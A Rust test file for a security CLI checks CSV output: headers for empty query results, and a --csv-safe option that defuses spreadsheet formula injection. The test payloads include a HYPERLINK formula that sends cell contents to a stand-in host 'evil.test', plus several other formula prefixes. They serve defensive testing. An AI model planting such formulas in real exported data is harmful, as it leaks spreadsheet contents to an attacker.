//! CSV: headers where there are no rows, and cells that no spreadsheet runs.

use defender_simulator::NewAlert;
use serde_json::json;

use super::hostile::{api, home_of};
use crate::support::home::{Home, simulator};

#[tokio::test(flavor = "multi_thread")]
async fn hunting_that_finds_nothing_has_a_header() {
    let reply = r#"{"Schema":[{"Name":"Timestamp","Type":"DateTime"},{"Name":"DeviceName","Type":"String"}],"Results":[]}"#;
    let api = api(200, reply).await;
    let home = home_of(&api);
    let hunt = |more: &[&str]| home.run(&[&["call", "run-hunting-query", "--query", "x"], more].concat());
    assert_eq!(hunt(&["--output", "csv"]).done().stdout, "Timestamp,DeviceName\n");
    assert_eq!(hunt(&["--output", "table"]).done().stdout, "nothing found\n");
    assert_eq!(hunt(&["--output", "csv", "--columns", "DeviceName"]).done().stdout, "DeviceName\n");
    hunt(&["--output", "csv", "--columns", "DeviceNam"]).usage("no column `DeviceNam`");
    let list = crate::cli::hostile::api(200, r#"{"value":[]}"#).await;
    let list = home_of(&list).run(&["call", "list-machines", "--output", "csv", "--columns", "id,riskScore"]);
    assert_eq!(list.done().stdout, "id,riskScore\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_safe_cells_are_run_by_no_spreadsheet_and_numbers_stay_numbers() {
    let formulas = [
        r#"=HYPERLINK("http://evil.test/?"&A1,"open")"#,
        "@SUM(1)",
        "+1",
        "-1",
        "\t=1",
        " =1",
        "＝1",
        "a;=1",
    ];
    let simulator = simulator(json!({})).await;
    for title in formulas {
        simulator.add_alert(NewAlert { title: Some(title.into()), ..NewAlert::default() });
    }
    let home = Home::of(&simulator);
    let titles = |words: &[&str]| {
        let words =
            [&["call", "list-alerts", "--columns", "title,incidentId,relatedUser.userName"], words].concat();
        let text = home.run(&words).done().stdout;
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<[String; 2]> = reader
            .records()
            .map(|row| row.expect("it is CSV"))
            .map(|row| [row[0].to_owned(), row[1].to_owned()])
            .collect();
        (text, rows)
    };
    let (text, safe) = titles(&["--csv-safe"]);
    for title in formulas {
        let expected = if title.starts_with('a') { title.to_owned() } else { format!("'{title}") };
        assert!(safe.iter().any(|[cell, _]| *cell == expected), "{expected} is not in\n{text}");
    }
    assert!(text.contains("\"a;=1\""), "what another separator would split is quoted:\n{text}");
    assert!(
        safe.iter().all(|[cell, _]| !cell.trim_start().starts_with(['=', '+', '-', '@', '＝'])),
        "{text}"
    );
    assert!(safe.iter().any(|[_, number]| number.parse::<i64>().is_ok()), "{text}");
    let (_, exact) = titles(&["--output", "csv"]);
    assert!(
        formulas.iter().all(|title| exact.iter().any(|[cell, _]| cell == title)),
        "CSV is exact by default"
    );
    home.run(&["actions", "--csv-safe", "--output", "table"]).usage("--csv-safe is for CSV");
    let help = home.run(&["call", "list-alerts", "--help"]).done().stdout;
    let words = help.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(words.contains("may run text as a formula: see --csv-safe"), "{help}");
}
